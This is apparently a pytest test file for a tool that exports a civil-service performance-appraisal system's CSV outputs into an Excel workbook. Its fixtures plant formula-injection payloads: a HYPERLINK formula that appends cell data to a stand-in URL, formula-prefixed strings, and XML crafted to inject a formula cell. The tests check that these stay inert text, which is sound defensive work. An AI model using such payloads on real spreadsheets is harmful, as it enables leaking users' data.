"""kinerja_<tahun>.xlsx: each output CSV as a sheet, cell for cell, numbers typed, formulas never run."""

from __future__ import annotations

import dataclasses
import hashlib
import io
import tempfile
import zipfile
import zlib
from datetime import datetime
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
import xlsxwriter
from xlsxwriter.xmlwriter import XMLwriter

from contract.karantina import KARANTINA_COLUMNS, write_karantina_csv
from contract.output import write_csv
from contract.schema import FORMULA_START
from penilaian.angka_kredit import ANGKA_KREDIT_NUMBERS, to_angka_kredit_hasil_csv
from penilaian.keberatan import to_hasil_penilaian_akhir_csv, to_keberatan_hasil_csv
from penilaian.monitoring import PEMANTAUAN_COLUMNS, PEMANTAUAN_NUMBERS
from penilaian.numbers import format_2
from penilaian.training import REKOMENDASI_COLUMNS, REKOMENDASI_NUMBERS, to_rekomendasi_csv
from penilaian.year_end import (
    BIAS_PENILAI_NUMBERS,
    HASIL_PENILAIAN_NUMBERS,
    to_bias_penilai_csv,
    to_hasil_penilaian_csv,
)
from reports import csv_index, workbook, workbook_zip
from reports.workbook import MAX_CELL, NUMBER_COLUMNS, sheet_names, write_workbook
from stages import registry
from tests.reports.fakes import make_angka_kredit, make_frames, make_keberatan, make_training, make_year_end

TAHUN = 2026
PLANTED = '=HYPERLINK("http://x"&A1,"klik")'
# Text that XlsxWriter's constant_memory mode would take for rich-string XML and write unescaped.
RICH = '<r><t>a</t></r></is></c><c r="Z9"><f>1+1</f><v>2</v></c><c r="Z10" t="inlineStr"><is><r><t>b</t></r>'
LONG = "x" * (MAX_CELL + 10)
# Text XlsxWriter escapes (control characters, a literal _xHHHH_, XML characters) or marks (edge spaces).
TRICKY = ["a\x01b", "_x0041_ harfiah", "\u00a0awal", "akhir ", "a & b <c>", "emoji \U0001f600", "-", "=", "'"]
# Columns whose values may all look like numbers but are codes, identifiers, dates or input as read.
TEXT_LIKE = {"nip", "nip_penilai", "nip_pemutus", "id_indikator", "kode_unit", "kode_pelatihan", "nilai",
             "tanggal_keputusan"}


def _karantina(n: int = 5) -> pd.DataFrame:
    """Quarantine rows as a stage hands them over: the planted texts in `nilai`."""
    nilai = ["-5", "'=1+1", "@SUM(A1)", "\tTAB", RICH, LONG, "007", "biasa", *TRICKY]
    nilai = (nilai * (n // len(nilai) + 1))[:n]
    return pd.DataFrame({
        "berkas": "pegawai.csv", "baris": np.arange(2, n + 2), "kolom": "nama", "nilai": nilai,
        "kode_aturan": "teks.formula", "alasan": "teks diawali tanda rumus", "reason": "formula-like text",
        "tahap": "validation",
    })[KARANTINA_COLUMNS]


def write_outputs(out: Path) -> Path:
    """Every output CSV of the contract through its real writer, from the report fakes, with planted text."""
    frames = make_frames(6)
    year_end = make_year_end(frames)
    year_end.hasil.loc[0, "nama"] = PLANTED
    year_end.hasil.loc[1, "nama"] = "+62 812"
    year_end.bias.loc[0, "selisih_z"] = -1.234
    write_karantina_csv(out, "validation", _karantina(8 + len(TRICKY)))
    pemantauan = pd.DataFrame({
        "nip": year_end.hasil["nip"], "id_indikator": [f"IND-{i}" for i in range(len(year_end.hasil))],
        "target": 100.0, "realisasi": [np.nan, *[40.5] * (len(year_end.hasil) - 1)], "capaian_persen": 40.5,
        "proyeksi_akhir_tahun": -3.0, "status": "berisiko",
    })[list(PEMANTAUAN_COLUMNS)]
    pemantauan[list(PEMANTAUAN_NUMBERS)] = pemantauan[list(PEMANTAUAN_NUMBERS)].apply(format_2)
    write_csv(pemantauan, out / "pemantauan_tengah_tahun.csv", PEMANTAUAN_NUMBERS)
    write_csv(to_hasil_penilaian_csv(year_end), out / "hasil_penilaian.csv", HASIL_PENILAIAN_NUMBERS)
    write_csv(to_bias_penilai_csv(year_end), out / "bias_penilai.csv", BIAS_PENILAI_NUMBERS)
    rekomendasi = pd.DataFrame({
        "nip": year_end.hasil["nip"][:3], "kode_pelatihan": "PLT-01", "nama_pelatihan": "-Pelayanan Prima",
        "kompetensi": "berorientasi_pelayanan", "alasan": "kesenjangan", "jp": [24.0, 12.5, 8.0],
        "prioritas": "tinggi",
    })[list(REKOMENDASI_COLUMNS)]
    training = dataclasses.replace(make_training(year_end), rekomendasi=rekomendasi)
    write_csv(to_rekomendasi_csv(training), out / "rekomendasi_pelatihan.csv", REKOMENDASI_NUMBERS)
    keberatan = make_keberatan(year_end, frames)
    write_csv(to_keberatan_hasil_csv(keberatan), out / "keberatan_hasil.csv")
    write_csv(to_hasil_penilaian_akhir_csv(keberatan), out / "hasil_penilaian_akhir.csv",
              HASIL_PENILAIAN_NUMBERS)
    write_csv(to_angka_kredit_hasil_csv(make_angka_kredit(year_end, keberatan)),
              out / "angka_kredit_hasil.csv", ANGKA_KREDIT_NUMBERS)
    return out


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = write_outputs(tmp_path_factory.mktemp("keluaran") / str(TAHUN))
    assert write_workbook(out, TAHUN) == out / f"kinerja_{TAHUN}.xlsx"
    return out


@pytest.fixture(scope="module")
def book(outputs: Path) -> openpyxl.Workbook:
    return openpyxl.load_workbook(outputs / f"kinerja_{TAHUN}.xlsx")


def _csv(path: Path) -> pd.DataFrame:
    return pd.read_csv(path, dtype=str, keep_default_na=False)


def _original(value: str) -> str:
    """A CSV text cell as it was before formula_safe put a ' before it."""
    if value[:1] == "'" and value[1:2] != "" and value[1] in FORMULA_START:
        return value[1:]
    return value


def _expected(value: str, column: str, berkas: str) -> object:
    """What openpyxl must read for a CSV cell: a number, the text before formula_safe, or None."""
    if value == "":
        return None
    if column in NUMBER_COLUMNS[berkas]:
        return float(value)
    value = _original(value)
    if len(value) > MAX_CELL:
        return value[:MAX_CELL]  # compared up to the note (see the truncation test)
    return XMLwriter._escape_control_characters(value)  # openpyxl reads the _xHHHH_ escapes as they are


def test_every_csv_is_a_sheet_in_formats_order(outputs, book):
    assert book.sheetnames == [name.removesuffix(".csv") for name in NUMBER_COLUMNS]


def test_the_sheets_equal_the_csvs_cell_by_cell(outputs, book):
    for berkas in NUMBER_COLUMNS:
        csv = _csv(outputs / berkas)
        rows = list(book[berkas.removesuffix(".csv")].iter_rows())
        assert [c.value for c in rows[0]] == list(csv.columns), berkas
        assert len(rows) == len(csv) + 1, berkas
        for row, (_, line) in zip(rows[1:], csv.iterrows(), strict=True):
            for cell, (column, value) in zip(row, line.items(), strict=True):
                want = _expected(value, column, berkas)
                where = f"{berkas} {cell.coordinate} {column}"
                if want is None:
                    assert cell.value is None, where
                elif isinstance(want, float):
                    assert cell.data_type == "n" and cell.value == want, where
                else:
                    assert cell.data_type == "s", where
                    if len(want) == MAX_CELL:
                        assert cell.value.startswith(want[:100]), where
                    else:
                        assert cell.value == want, where
                    assert cell.quotePrefix == _original(value).startswith(FORMULA_START), where


def test_the_header_is_frozen_and_filtered(book):
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2", sheet.title
        assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, sheet.max_column).column_letter}{sheet.max_row}"


def test_a_planted_formula_is_text_with_a_quote_prefix(outputs, book):
    csv = _csv(outputs / "hasil_penilaian.csv")
    assert "'" + PLANTED in set(csv["nama"])
    cells = [row[1] for row in book["hasil_penilaian"].iter_rows(min_row=2)]
    planted = next(c for c in cells if c.value == PLANTED)
    assert planted.data_type == "s" and planted.quotePrefix
    with zipfile.ZipFile(outputs / f"kinerja_{TAHUN}.xlsx") as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == len(NUMBER_COLUMNS)
        for name in sheets:
            assert "<f>" not in z.read(name).decode("utf-8"), name
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert all(c.data_type != "f" for c in row), sheet.title


def test_text_that_looks_like_rich_string_xml_stays_text(book):
    values = [row[3].value for row in book["karantina"].iter_rows(min_row=2)]
    assert RICH in values


def test_a_quote_before_a_formula_character_in_the_input_is_lost_as_documented(book):
    values = [row[3] for row in book["karantina"].iter_rows(min_row=2)]
    cell = next(c for c in values if c.value == "=1+1")  # the input said '=1+1; the CSV holds '=1+1 as well
    assert cell.data_type == "s" and cell.quotePrefix


def test_text_over_the_cell_limit_is_cut_with_a_note(book):
    cell = next(row[3] for row in book["karantina"].iter_rows(min_row=2) if row[3].value.startswith("xxx"))
    assert len(cell.value) == MAX_CELL
    assert cell.value.endswith("[dipotong / truncated: teks lengkap di karantina.csv]")


def test_the_same_csvs_give_the_same_bytes(outputs, tmp_path):
    first = (outputs / f"kinerja_{TAHUN}.xlsx").read_bytes()
    copy = tmp_path / str(TAHUN)
    copy.mkdir()
    for berkas in NUMBER_COLUMNS:
        (copy / berkas).write_bytes((outputs / berkas).read_bytes())
    assert write_workbook(copy, TAHUN).read_bytes() == first
    assert write_workbook(copy, TAHUN).read_bytes() == first
    assert sorted(p.name for p in copy.iterdir()) == sorted([*NUMBER_COLUMNS, f"kinerja_{TAHUN}.xlsx"])


def test_no_csv_no_workbook(tmp_path):
    (tmp_path / "gerbang_validation.html").write_text("<html></html>")
    assert write_workbook(tmp_path, TAHUN) is None
    assert [p.name for p in tmp_path.iterdir()] == ["gerbang_validation.html"]


def test_only_the_csvs_present_become_sheets(tmp_path):
    write_karantina_csv(tmp_path, "plan-collection", _karantina(2).head(0))
    path = write_workbook(tmp_path, TAHUN)
    sheet = openpyxl.load_workbook(path)["karantina"]
    assert openpyxl.load_workbook(path).sheetnames == ["karantina"]
    assert [c.value for c in sheet[1]] == KARANTINA_COLUMNS and sheet.max_row == 1


def test_a_long_csv_goes_on_in_further_sheets(tmp_path, monkeypatch):
    monkeypatch.setattr(workbook, "MAX_ROWS", 4)  # a header and three rows per sheet
    monkeypatch.setattr(workbook, "CHUNK_ROWS", 2)  # rendered two rows at a time
    write_karantina_csv(tmp_path, "validation", _karantina(8).assign(nilai="n"))
    book = openpyxl.load_workbook(write_workbook(tmp_path, TAHUN))
    assert book.sheetnames == ["karantina", "karantina_2", "karantina_3"]
    baris = []
    for sheet in book.worksheets:
        rows = list(sheet.values)
        assert list(rows[0]) == KARANTINA_COLUMNS
        assert sheet.freeze_panes == "A2"
        baris += [row[1] for row in rows[1:]]
    assert baris == list(range(2, 10))
    assert [len(list(s.values)) - 1 for s in book.worksheets] == [3, 3, 2]


def test_sheet_names_fit_excel():
    assert sheet_names("karantina", 2) == ["karantina", "karantina_2"]
    long = sheet_names("x" * 40, 12)
    assert all(len(n) <= 31 for n in long) and len(set(long)) == 12 and long[-1].endswith("_12")


def test_every_numeric_column_is_declared(outputs):
    """A column whose every value (at least one) reads as a number is declared, or a known text-like code;
    every declared column exists and holds only numbers."""
    for berkas, numbers in NUMBER_COLUMNS.items():
        csv = _csv(outputs / berkas)
        assert set(numbers) <= set(csv.columns), berkas
        for column in csv.columns:
            filled = csv.loc[csv[column] != "", column]
            numeric = pd.to_numeric(filled, errors="coerce").notna()
            if column in numbers:
                assert numeric.all(), (berkas, column)
            elif len(filled) and numeric.all():
                assert column in TEXT_LIKE, (berkas, column)


def test_the_workbook_covers_every_contract_csv_of_the_registry():
    listed = {o for stage in registry.STAGES for o in stage.outputs if o.endswith(".csv") and "*" not in o}
    assert listed == set(NUMBER_COLUMNS)


def test_text_cells_are_the_xml_xlsxwriter_writes_for_them(tmp_path):
    """The bulk rows hold, byte for byte, what XlsxWriter's own write_string gives for the same cells."""
    texts = [t for t in _karantina(40)["nilai"] if t != RICH]  # RICH: XlsxWriter would write it unescaped
    frame = pd.DataFrame({"nip": [f"{i:018d}" for i in range(len(texts))], "keputusan": texts})
    write_csv(frame, tmp_path / "keberatan_hasil.csv")
    ours = write_workbook(tmp_path, TAHUN)
    csv = _csv(tmp_path / "keberatan_hasil.csv")
    reference = tmp_path / "reference.xlsx"
    book = xlsxwriter.Workbook(str(reference), {"constant_memory": True, "strings_to_numbers": False,
                                                "strings_to_formulas": False, "strings_to_urls": False})
    book.set_properties({"created": datetime(TAHUN, 1, 1), "title": f"Kinerja {TAHUN}"})
    header, quote = book.add_format({"bold": True}), book.add_format({"quote_prefix": True})
    sheet = book.add_worksheet("keberatan_hasil")
    for col, name in enumerate(csv.columns):
        sheet.set_column(col, col, workbook._width(name, csv[name]))
    sheet.freeze_panes(1, 0)
    sheet.autofilter(0, 0, len(csv), len(csv.columns) - 1)
    sheet.write_row(0, 0, list(csv.columns), header)
    for row, line in enumerate(csv.itertuples(index=False), start=1):
        for col, value in enumerate(line):
            text = workbook._fit(_original(value), "keberatan_hasil.csv")
            sheet.write_string(row, col, text, quote if text.startswith(FORMULA_START) else None)
    digest = hashlib.sha256((tmp_path / "keberatan_hasil.csv").read_bytes()).hexdigest()
    book.set_custom_property("kinerja:keberatan_hasil", f"{digest}+{workbook.writer_version()}")
    book.close()
    with zipfile.ZipFile(ours) as a, zipfile.ZipFile(reference) as b:
        assert a.namelist() == b.namelist()
        for name in a.namelist():
            assert a.read(name) == b.read(name), name


def test_a_failed_rewrite_keeps_the_previous_workbook_and_leaves_no_temporary_file(outputs, tmp_path,
                                                                                     monkeypatch):
    folder = tmp_path / str(TAHUN)
    folder.mkdir()
    for berkas in NUMBER_COLUMNS:
        (folder / berkas).write_bytes((outputs / berkas).read_bytes())
    before = write_workbook(folder, TAHUN).read_bytes()
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    calls = []

    def broken(*args):
        calls.append(args)
        if len(calls) == 3:
            raise OSError("disk full")
        return write_csv_sheet(*args)

    write_csv_sheet = workbook._write_csv
    monkeypatch.setattr(workbook, "_write_csv", broken)
    with pytest.raises(OSError, match="disk full"):
        write_workbook(folder, TAHUN)
    assert (folder / f"kinerja_{TAHUN}.xlsx").read_bytes() == before
    assert sorted(p.name for p in folder.iterdir()) == sorted([*NUMBER_COLUMNS, f"kinerja_{TAHUN}.xlsx"])
    assert list(scratch.iterdir()) == []


# Refreshes: a sheet whose CSV is unchanged is copied from the previous workbook as stored.

def _copy(outputs: Path, folder: Path, names=tuple(NUMBER_COLUMNS)) -> Path:
    folder.mkdir(parents=True)
    for berkas in names:
        (folder / berkas).write_bytes((outputs / berkas).read_bytes())
    return folder


@pytest.fixture
def rendered(monkeypatch) -> list[str]:
    """The sheets whose rows are rendered (not copied), one entry per rendered chunk."""
    names: list[str] = []
    render = workbook._render_rows

    def recording(part, start, length):
        names.append(part.name)
        return render(part, start, length)

    monkeypatch.setattr(workbook, "_render_rows", recording)
    return names


def _full(folder: Path, scratch: Path) -> bytes:
    """The bytes of a full write of the CSVs in `folder`, in a copy without a previous workbook."""
    copy = _copy(folder, scratch, [p.name for p in folder.glob("*.csv")])
    return write_workbook(copy, TAHUN, reuse=False).read_bytes()


def test_a_refresh_after_a_karantina_change_copies_the_rest_and_equals_a_full_write(outputs, tmp_path,
                                                                                      rendered):
    folder = _copy(outputs, tmp_path / "a")
    write_workbook(folder, TAHUN)
    rendered.clear()
    write_karantina_csv(folder, "training", _karantina(3).assign(nilai="baru", baris=[100, 101, 102]))
    refreshed = write_workbook(folder, TAHUN).read_bytes()
    assert set(rendered) == {"karantina"}
    rendered.clear()
    assert refreshed == _full(folder, tmp_path / "b")
    assert len(set(rendered)) == len(NUMBER_COLUMNS)  # the full write rendered every sheet
    book = openpyxl.load_workbook(folder / f"kinerja_{TAHUN}.xlsx")
    assert "baru" in [row[3] for row in book["karantina"].iter_rows(min_row=2, values_only=True)]
    with zipfile.ZipFile(folder / f"kinerja_{TAHUN}.xlsx") as z:
        assert z.testzip() is None  # every member's CRC-32 and size hold


def test_a_refresh_without_a_change_renders_nothing_and_keeps_the_bytes(outputs, tmp_path, rendered):
    folder = _copy(outputs, tmp_path / str(TAHUN))
    first = write_workbook(folder, TAHUN).read_bytes()
    rendered.clear()
    assert write_workbook(folder, TAHUN).read_bytes() == first
    assert rendered == []
    assert first == (outputs / f"kinerja_{TAHUN}.xlsx").read_bytes()


def test_a_changed_csv_rewrites_its_sheet(outputs, tmp_path, rendered):
    folder = _copy(outputs, tmp_path / "a")
    write_workbook(folder, TAHUN)
    rendered.clear()
    hasil = folder / "hasil_penilaian.csv"
    hasil.write_bytes(hasil.read_bytes().replace(b"+62 812", b"+62 813"))
    path = write_workbook(folder, TAHUN)
    assert set(rendered) == {"hasil_penilaian"}
    names = [row[1] for row in openpyxl.load_workbook(path)["hasil_penilaian"].iter_rows(values_only=True)]
    assert "+62 813" in names and "+62 812" not in names
    assert path.read_bytes() == _full(folder, tmp_path / "b")


def _garbage(path: Path) -> None:
    path.write_bytes(b"PK\x03\x04 bukan zip / not a zip" * 100)


def _cut(path: Path) -> None:
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])


def _foreign(path: Path) -> None:
    """A workbook of another program with the same sheets and properties that are not ours."""
    book = xlsxwriter.Workbook(str(path))
    for berkas in NUMBER_COLUMNS:
        book.add_worksheet(berkas.removesuffix(".csv")).write(0, 0, "lain")
        book.set_custom_property(f"lain:{berkas}", "x")
    book.close()


def _rewrite(path: Path, change) -> None:
    """The workbook with the members `change(name, text)` gives new text for written anew, the others
    copied as stored (as a refresh would copy them)."""
    with path.open("rb") as source:
        old = workbook_zip.StoredZip(source)
        out = io.BytesIO()
        writer = workbook_zip.ZipWriter(out)
        for name in old.zip.namelist():
            new = change(name, old.zip.read(name))
            if new is None:
                stored = old.stored(name)
                writer.add(name, stored, list(old.pieces(stored)))
            else:
                writer.add_segments(name, new)
        writer.close()
    path.write_bytes(out.getvalue())


def _segment(text: bytes, last: bool = False) -> tuple[bytes, int, int]:
    return workbook_zip.deflate_segment(text, workbook.ZIP_LEVEL, last), zlib.crc32(text), len(text)


def _other_writer(path: Path) -> None:
    """Ours, the sheets as stored, the keys recorded by another writer version (the CSVs are the same)."""
    old = workbook.FORMAT.encode()
    _rewrite(path, lambda name, text: [_segment(text.replace(old, b"kinerja-xlsx/0"), last=True)]
             if name == "docProps/custom.xml" else None)


def _tampered_head(path: Path) -> None:
    """Ours, but the sheets with a `nip` column have another header, deflated in segments as ours are:
    such a stored sheet does not begin as the new one would, the others are copied."""
    def change(name: str, text: bytes) -> list | None:
        if b"<t>nip</t>" not in text:
            return None
        text = text.replace(b"<t>nip</t>", b"<t>NIP</t>")
        head, cut = text.index(b"</row>") + len(b"</row>"), text.index(b"</sheetData>")
        rows = [_segment(text[head:cut])] if cut > head else []
        return [_segment(text[:head]), *rows, _segment(text[cut:], last=True)]

    _rewrite(path, change)


@pytest.mark.parametrize("spoil", [_garbage, _cut, _foreign, _other_writer, _tampered_head])
def test_a_previous_workbook_that_cannot_be_used_gives_a_full_write(outputs, tmp_path, rendered, spoil):
    folder = _copy(outputs, tmp_path / "a")
    spoil_target = workbook.workbook_path(folder, TAHUN)
    write_workbook(folder, TAHUN)
    spoil(spoil_target)
    rendered.clear()
    assert write_workbook(folder, TAHUN).read_bytes() == (outputs / f"kinerja_{TAHUN}.xlsx").read_bytes()
    copied = {berkas.removesuffix(".csv") for berkas in NUMBER_COLUMNS} - set(rendered)
    if spoil is _tampered_head:  # sheets without a `nip` column are still copied
        assert copied == {"karantina", "bias_penilai"}
    else:
        assert copied == set()


def test_only_the_first_sheet_depends_on_its_place(outputs, tmp_path, rendered):
    """The first sheet is the selected tab (tabSelected): a sheet that becomes first is rendered again;
    a sheet that only moves (another CSV before it appears) is copied."""
    without = [b for b in NUMBER_COLUMNS if b not in ("karantina.csv", "rekomendasi_pelatihan.csv")]
    folder = _copy(outputs, tmp_path / "a", without)
    write_workbook(folder, TAHUN)
    rendered.clear()
    (folder / "rekomendasi_pelatihan.csv").write_bytes((outputs / "rekomendasi_pelatihan.csv").read_bytes())
    refreshed = write_workbook(folder, TAHUN).read_bytes()
    assert rendered == ["rekomendasi_pelatihan"]  # the sheets after it moved and were copied
    assert refreshed == _full(folder, tmp_path / "b")
    rendered.clear()
    (folder / "karantina.csv").write_bytes((outputs / "karantina.csv").read_bytes())
    assert write_workbook(folder, TAHUN).read_bytes() == (outputs / f"kinerja_{TAHUN}.xlsx").read_bytes()
    assert set(rendered) == {"karantina", "pemantauan_tengah_tahun"}  # no longer first: written again


def test_the_sheets_of_a_long_csv_are_copied_too(tmp_path, monkeypatch, rendered):
    monkeypatch.setattr(workbook, "MAX_ROWS", 4)
    monkeypatch.setattr(workbook, "CHUNK_ROWS", 2)
    write_karantina_csv(tmp_path / "a", "validation", _karantina(8))
    keberatan = tmp_path / "a" / "keberatan_hasil.csv"
    write_csv(pd.DataFrame({"nip": ["1", "2"], "keputusan": ["a", "b\nc"]}), keberatan)
    write_workbook(tmp_path / "a", TAHUN)
    rendered.clear()
    write_csv(pd.DataFrame({"nip": ["1"], "keputusan": ["=x"]}), keberatan)
    refreshed = write_workbook(tmp_path / "a", TAHUN).read_bytes()
    assert rendered == ["keberatan_hasil"]
    assert refreshed == _full(tmp_path / "a", tmp_path / "b")
    assert openpyxl.load_workbook(tmp_path / "a" / f"kinerja_{TAHUN}.xlsx").sheetnames == [
        "karantina", "karantina_2", "karantina_3", "keberatan_hasil"]


@pytest.mark.parametrize("cut", ["whole", "no last line feed", "header only"])
def test_the_index_of_a_csv_reads_back_what_a_full_read_gives(tmp_path, monkeypatch, cut):
    """Header, widths, rows and every slice of rows come from the record starts (line feeds outside
    quotes), found in blocks: a quoted line feed or `"` on either side of a block edge is no record end."""
    monkeypatch.setattr(csv_index, "SCAN_BYTES", 97)  # many block edges, some inside quoted values
    rows = _karantina(3000).assign(kolom=[f'ba"ris\n{i}' if i % 7 else "x,y" for i in range(3000)])
    write_karantina_csv(tmp_path, "validation", rows)
    data = (tmp_path / "karantina.csv").read_bytes()
    text = {"whole": data, "no last line feed": data.rstrip(b"\n"),
            "header only": data[: data.index(b"\n") + 1]}
    source = tmp_path / "k.csv"
    source.write_bytes(text[cut])
    full = csv_index.parse(text[cut])
    table = workbook._read_table(source)
    assert (table.header, table.widths, table.rows) == (full.column_names, workbook._widths(full), len(full))
    for first, count in ((0, len(full)), (0, 1), (1, 7), (len(full) - 5, 5), (1234, 999)):
        if 0 <= first and first + count <= len(full) and count:
            assert table.read_rows(first, count).equals(full.slice(first, count)), (first, count)


def test_a_csv_changed_after_it_was_indexed_is_not_read_in_pieces(tmp_path):
    source = tmp_path / "k.csv"
    write_karantina_csv(tmp_path, "validation", _karantina(50))
    (tmp_path / "karantina.csv").rename(source)
    table = workbook._read_table(source)
    source.write_bytes(source.read_bytes() + b"x\n")
    with pytest.raises(RuntimeError, match="changed while the workbook was written"):
        table.read_rows(0, 10)


def test_a_workbook_over_the_zip64_limits_is_read_back(outputs, tmp_path, monkeypatch):
    monkeypatch.setattr(workbook_zip, "ZIP64_LIMIT", 1000)  # every size and offset beyond it goes to Zip64
    folder = _copy(outputs, tmp_path / "a")
    path = write_workbook(folder, TAHUN)
    with zipfile.ZipFile(path) as z:
        assert z.testzip() is None
        assert any(info.extra for info in z.infolist())
    assert openpyxl.load_workbook(path).sheetnames == [b.removesuffix(".csv") for b in NUMBER_COLUMNS]
    assert write_workbook(folder, TAHUN).read_bytes() == path.read_bytes()  # copied from a Zip64 file


def test_crc32_combine_is_the_crc_of_the_joined_bytes():
    data = np.random.default_rng(7).integers(0, 256, 5000, dtype=np.uint8).tobytes()
    for cut in (0, 1, 2, 3, 4, 7, 8, 100, 4095, 5000):
        a, b = data[:cut], data[cut:]
        assert workbook_zip.crc32_combine(zlib.crc32(a), zlib.crc32(b), len(b)) == zlib.crc32(data)


def test_a_failure_while_rendering_keeps_the_previous_workbook(outputs, tmp_path, monkeypatch):
    folder = _copy(outputs, tmp_path / "a")
    before = write_workbook(folder, TAHUN).read_bytes()
    hasil = folder / "hasil_penilaian.csv"
    hasil.write_bytes(hasil.read_bytes().replace(b"+62 812", b"+62 813"))

    def broken(part, start, length):
        raise OSError("disk full")

    monkeypatch.setattr(workbook, "_render_rows", broken)
    with pytest.raises(OSError, match="disk full"):
        write_workbook(folder, TAHUN)
    assert (folder / f"kinerja_{TAHUN}.xlsx").read_bytes() == before
    assert sorted(p.name for p in folder.iterdir()) == sorted([*NUMBER_COLUMNS, f"kinerja_{TAHUN}.xlsx"])


def test_segments_are_deflated_in_order_and_at_most_a_window_ahead_of_the_writer():
    from concurrent.futures import ThreadPoolExecutor

    from reports.workbook_zip import _ahead

    started: list[int] = []

    def job(n: int):
        started.append(n)
        return (bytes([n]), n, 1)

    with ThreadPoolExecutor(4) as pool:
        taken = []
        for segment in _ahead(pool, [lambda n=n: job(n) for n in range(20)], window=3):
            taken.append(segment[1])
            # the one just taken and at most 3 behind it have been handed to the pool
            assert len(started) <= len(taken) + 3
    assert taken == list(range(20)), "every job's result, in the jobs' order"
    assert sorted(started) == list(range(20))


def test_a_segment_fed_in_pieces_is_the_segment_of_the_joined_text():
    rng = np.random.default_rng(11)
    text = b"".join(b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>%s</t></is></c></row>' % (n, n, bytes(
        rng.choice(list(b"abcdefgh "), int(rng.integers(0, 40))))) for n in range(20_000))
    whole = workbook_zip.segment(text, workbook.ZIP_LEVEL)
    for cuts in ([], [1], [65_536], sorted(rng.integers(0, len(text), 40).tolist())):
        bounds = [0, *cuts, len(text)]
        pieces = (memoryview(text)[a:b] for a, b in zip(bounds, bounds[1:], strict=False))
        assert workbook_zip.segment_of_pieces(pieces, workbook.ZIP_LEVEL) == whole


def test_rows_rendered_a_few_at_a_time_give_the_same_workbook(outputs, tmp_path, monkeypatch):
    whole = write_workbook(_copy(outputs, tmp_path / "a"), TAHUN, reuse=False).read_bytes()
    rendered: list[int] = []
    render = workbook._render_rows

    def counted(part, start, length):
        rendered.append(length)
        return render(part, start, length)

    monkeypatch.setattr(workbook, "RENDER_ROWS", 3)
    monkeypatch.setattr(workbook, "_render_rows", counted)
    assert write_workbook(_copy(outputs, tmp_path / "b"), TAHUN, reuse=False).read_bytes() == whole
    assert max(rendered) == 3 and rendered.count(3) > 1, "chunks were rendered three rows at a time"
